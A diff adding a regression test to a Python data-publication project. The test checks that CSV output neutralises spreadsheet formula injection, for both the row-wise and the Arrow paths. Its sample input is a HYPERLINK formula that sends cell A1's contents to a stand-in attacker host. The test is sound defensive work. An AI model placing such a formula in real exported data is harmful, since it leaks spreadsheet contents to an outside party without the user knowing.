@@ -107,3 +107,22 @@ def test_format_imports_to_identical_tables(variant: str, tmp_path: Path, refere
     import_folder(folder, settings)
     assert _tables(settings) == reference
     assert sum(len(rows) for rows in reference.values()) == 48
+
+
+def test_csv_output_does_not_carry_a_formula_into_a_spreadsheet() -> None:
+    """Issue 10 (medium), the bad input: a text from the municipality's files such as
+    ``=HYPERLINK(…)`` was written raw to CSV (Excel output was neutralised already); both the
+    row-wise and the Arrow (person-level extract) paths now prefix it with an apostrophe."""
+    import io
+
+    import pyarrow as pa
+
+    from tvaers.core.publication import DataTable
+    from tvaers.reports.output import write_output
+
+    attack = '=HYPERLINK("http://angriber.example/?d="&A1,"Klik")'
+    for rows in ([{"text": attack, "n": 1}], pa.table({"text": [attack, "ok"], "n": [1, 2]})):
+        out = io.StringIO()
+        write_output([DataTable.of("x", rows)], "csv", None, out)
+        lines = out.getvalue().splitlines()
+        assert lines[1].lstrip('"').startswith("'=HYPERLINK"), lines
